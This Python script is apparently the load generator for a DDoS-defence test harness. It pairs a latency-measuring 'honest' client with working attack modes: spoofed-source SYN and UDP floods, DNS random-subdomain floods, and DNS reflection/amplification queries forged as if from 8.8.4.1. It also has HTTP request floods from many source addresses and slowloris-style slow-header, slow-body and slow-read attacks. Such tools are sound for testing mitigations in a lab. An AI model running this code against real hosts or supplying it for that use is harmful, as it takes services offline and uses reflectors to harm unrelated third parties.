#!/usr/bin/env python3
"""The two sides of flood.sh.

flood.py honest ADDRESS PORT HOST RATE SECONDS   open loop: a page on a new connection, from 50 addresses in turn; each has three seconds. As a browser does, it
                                                 keeps what cookie it is given and asks again when a page says so (Refresh).
                                                 Prints "ASKED ANSWERED P50_MS P99_MS"
flood.py syn|udp ADDRESS PORT RATE SECONDS       packets from forged addresses, none twice soon
flood.py dns ADDRESS PORT RATE SECONDS ZONE       questions for made-up names of the zone from forged addresses
flood.py reflect ADDRESS PORT RATE SECONDS ZONE   questions for the zone's keys, all as if 8.8.4.1 had asked
flood.py http ADDRESS PORT HOST RATE SECONDS     requests from four addresses, answers unread
flood.py requests ADDRESS PORT HOST SOURCES EACH SECONDS   from so many addresses, so many connections each, the next request as soon as one is answered
flood.py tokens ADDRESS PORT HOST SOURCES EACH SECONDS     the same, and each source keeps the cookies it is given
flood.py header|body|read ADDRESS PORT HOST SOURCES HELD SECONDS   slow ones, from so many addresses: so many connections are held, whatever the other side
                                                 does about it; a header, a form or an answer goes on by a few bytes every four seconds
"""
import asyncio, random, re, socket, struct, sys, time

HONEST = ["203.0.113.%d" % i for i in range(1, 51)]
HOSTILE = ["8.8.4.%d" % i for i in range(1, 5)]


def paced(rate, seconds, step):
    start, n = time.monotonic(), 0
    while (now := time.monotonic() - start) < seconds:
        while n < now * rate:
            step(n)
            n += 1
        time.sleep(0.001)
    return n


COOKIES = {}


async def fetch(source, address, port, host):
    r, w = await asyncio.open_connection(address, port, local_addr=(source, 0))
    cookie = b"Cookie: %s\r\n" % COOKIES[source] if source in COOKIES else b""
    w.write(b"GET /page.html HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\nAccept: text/html\r\n%sConnection: close\r\n\r\n" % (host.encode(), cookie))
    answer = await r.read(-1)
    w.close()
    return answer


async def ask(source, address, port, host, done):
    began = time.monotonic()
    try:
        async with asyncio.timeout(3):
            answer = await fetch(source, address, port, host)
            while again := re.search(rb"\r\nRefresh: (\d+)\r\n", answer):
                if given := re.search(rb"\r\nSet-Cookie: ([^;]*);", answer):
                    COOKIES[source] = given[1]
                await asyncio.sleep(int(again[1]))
                answer = await fetch(source, address, port, host)
        done.append((time.monotonic() - began) * 1000 if answer.startswith(b"HTTP/1.1 200") and answer.endswith(b"</html>\n") else answer[9:12].decode() or "cut")
    except (OSError, TimeoutError) as e:
        done.append(type(e).__name__)


async def honest(address, port, host, rate, seconds):
    done, tasks, start = [], [], time.monotonic()
    for n in range(int(rate * seconds)):
        await asyncio.sleep(max(0, start + n / rate - time.monotonic()))
        tasks.append(asyncio.create_task(ask(HONEST[n % len(HONEST)], address, port, host, done)))
    await asyncio.gather(*tasks)
    good = sorted(x for x in done if not isinstance(x, str))
    bad = [x for x in done if isinstance(x, str)]
    if bad:
        print("not answered:", {x: bad.count(x) for x in set(bad)}, file=sys.stderr)
    print(len(done), len(good), *(("%.0f" % good[int(len(good) * q)]) if good else "-" for q in (0.5, 0.99)))


def question(zone, made_up):
    labels = (["%012x" % random.getrandbits(48)] if made_up else []) + zone.split(".")
    name = b"".join(bytes([len(x)]) + x.encode() for x in labels) + b"\0"
    # one question, and what EDNS adds: 1,232 bytes may come back, signatures too
    return struct.pack("!HHHHHH", random.getrandbits(16), 0, 1, 0, 0, 1) + name + struct.pack("!HH", 1 if made_up else 48, 1) + b"\0" + struct.pack("!HHIH", 41, 1232, 0x8000, 0)


def forged(kind, address, port, rate, seconds, zone=""):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    to = socket.inet_aton(address)
    d1, d2 = struct.unpack("!HH", to)

    def step(_):
        a, b, sport = random.randrange(0x0b00, 0x7e00), random.randrange(1, 65535), random.randrange(1024, 65536)
        if kind == "udp":
            body = struct.pack("!HHHH", sport, port, 8 + 64, 0) + b"x" * 64
        elif kind in ("dns", "reflect"):
            a, b = (a, b) if kind == "dns" else (0x0808, 0x0401)
            asked = question(zone, kind == "dns")
            body = struct.pack("!HHHH", sport, port, 8 + len(asked), 0) + asked
        else:
            total = a + b + d1 + d2 + 6 + 20 + sport + port + 1 + 0x5002 + 65535
            while total >> 16:
                total = (total & 0xFFFF) + (total >> 16)
            body = struct.pack("!HHIIHHHH", sport, port, 1, 0, 0x5002, 65535, ~total & 0xFFFF, 0)
        head = struct.pack("!BBHHHBBHHH4s", 0x45, 0, 20 + len(body), 0, 0, 64, 6 if kind == "syn" else 17, 0, a, b, to)
        try:
            s.sendto(head + body, (address, 0))
        except OSError:
            pass

    print(paced(rate, seconds, step))


def hostile(n):
    s = socket.socket()
    s.bind((HOSTILE[n % len(HOSTILE)], 0))
    s.setblocking(False)
    return s


def http(address, port, host, rate, seconds):
    open_ = []

    def step(n):
        s = hostile(n)
        s.connect_ex((address, port))
        open_.append((time.monotonic(), s))
        while open_ and time.monotonic() - open_[0][0] > 0.2:
            _, old = open_.pop(0)
            try:
                old.send(b"GET /page.html?%d HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n" % (n, host.encode()))
            except OSError:
                pass
            old.close()

    print(paced(rate, seconds, step))


def bots(n):
    """The n-th of up to 250 addresses in ten networks."""
    return "9.9.%d.%d" % (n % 10, 1 + n // 10 % 25)


async def visitor(source, address, port, host, n, end, count, keeps):
    while time.monotonic() < end:
        try:
            r, w = await asyncio.open_connection(address, port, local_addr=(source, 0))
            while time.monotonic() < end:
                cookie = b"Cookie: %s\r\n" % COOKIES[source] if source in COOKIES else b""
                w.write(b"GET /page.html?%d HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\nAccept: text/html\r\n%s\r\n" % (n, host, cookie))
                head = await r.readuntil(b"\r\n\r\n")
                if keeps and (given := re.search(rb"\r\nSet-Cookie: ([^;]*);", head)):
                    COOKIES[source] = given[1]
                count[head[9:12]] = count.get(head[9:12], 0) + 1
                await r.readexactly(int(head.lower().split(b"content-length: ")[1].split(b"\r")[0]))
        except (OSError, EOFError, IndexError, ValueError, asyncio.LimitOverrunError):
            count[b"broken"] = count.get(b"broken", 0) + 1
            await asyncio.sleep(0.05)


async def requests(address, port, host, sources, each, seconds, keeps):
    end, count = time.monotonic() + seconds, {}
    tasks = [asyncio.create_task(visitor(bots(n), address, port, host.encode(), n, end, count, keeps)) for _ in range(each) for n in range(sources)]
    await asyncio.wait(tasks, timeout=seconds + 1)
    print({k.decode(): v for k, v in count.items()})


SLOW = {
    "header": (b"GET /page.html HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\n", b"X-A: b\r\n"),
    "body": (b"POST /page.html HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: text/plain\r\nContent-Length: 90000\r\n\r\n", b"x"),
    "read": (b"GET /large.html HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\nAccept: text/html\r\n\r\n", None),
}


def begin(kind, address, port, n):
    s = socket.socket()
    if kind == "read":
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
    s.bind((bots(n), 0))
    s.setblocking(False)
    s.connect_ex((address, port))
    return s


def slow(kind, address, port, host, sources, held, seconds):
    """Each connection falls due once a second: its head is sent at the first, then every fourth it goes on by a few bytes; one that the other side
    has ended is begun anew."""
    first, more = SLOW[kind]
    first %= host.encode()
    have = [(begin(kind, address, port, n % sources), 0) for n in range(held)]
    begun = held

    def step(k):
        nonlocal begun
        s, age = have[k % held]
        try:
            if age == 0:
                s.send(first)
            elif more and age % 4 == 0:
                s.send(more)
            age += 1
            if (more or age % 4 == 0) and not s.recv(64):
                raise OSError
        except BlockingIOError:
            pass
        except OSError:
            s.close()
            s, age = begin(kind, address, port, k % held % sources), 0
            begun += 1
        have[k % held] = s, age

    paced(held, seconds, step)
    print("%d connections begun" % begun)


def main():
    kind, address, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    if kind == "honest":
        asyncio.run(honest(address, port, sys.argv[4], float(sys.argv[5]), float(sys.argv[6])))
    elif kind in ("requests", "tokens"):
        asyncio.run(requests(address, port, sys.argv[4], int(sys.argv[5]), int(sys.argv[6]), float(sys.argv[7]), kind == "tokens"))
    elif kind in SLOW:
        slow(kind, address, port, sys.argv[4], int(sys.argv[5]), int(sys.argv[6]), float(sys.argv[7]))
    elif kind in ("syn", "udp", "dns", "reflect"):
        forged(kind, address, port, float(sys.argv[4]), float(sys.argv[5]), *sys.argv[6:])
    else:
        http(address, port, sys.argv[4], float(sys.argv[5]), float(sys.argv[6]))


main()
